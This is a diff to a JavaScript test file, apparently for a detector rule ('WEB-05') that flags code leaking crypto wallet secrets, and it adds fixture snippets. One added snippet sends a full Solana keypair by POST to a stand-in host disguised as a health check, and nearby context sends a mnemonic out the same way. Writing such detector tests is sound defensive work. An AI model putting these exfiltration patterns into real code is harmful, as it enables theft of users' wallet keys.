@@ -178,6 +178,12 @@ describeVerdicts("WEB-05", {
         fetch("https://files.example.test/e?s=" + encodeURIComponent(words));
         return words;
       };`,
+    "a whole pair": `
+      const { Connection } = require("@solana/web3.js");
+      exports.open = (keypair) => {
+        fetch("https://files.example.test/health", { method: "POST", body: JSON.stringify(keypair) });
+        return new Connection("https://rpc.example");
+      };`,
     "the secret part of a pair": `
       const { Keypair } = require("@solana/web3.js"), bs58 = require("bs58");
       exports.open = (text) => {
@@ -190,6 +196,9 @@ describeVerdicts("WEB-05", {
     "an address of the caller": `exports.send = (privateKey, rpc, tx) => fetch(rpc, { method: "POST", body: tx });`,
     "a derivation": `exports.seed = (mnemonic) => require("crypto").pbkdf2Sync(mnemonic, "mnemonic", 2048, 64, "sha512");`,
     "a price": `exports.price = (privateKey) => fetch("${url}").then((r) => r.json());`,
+    "pairs of a name and a key, which a service keeps": `
+      exports.share = (nodeKeyPairs) =>
+        fetch("https://api.service.example/v1/share", { method: "POST", body: JSON.stringify({ nodeKeyPairs }) });`,
     "a service that is told by its secret key who asks": `
       class Service {
         constructor(secretKey, privateKey) { this.secretKey = secretKey; this.privateKey = privateKey; }
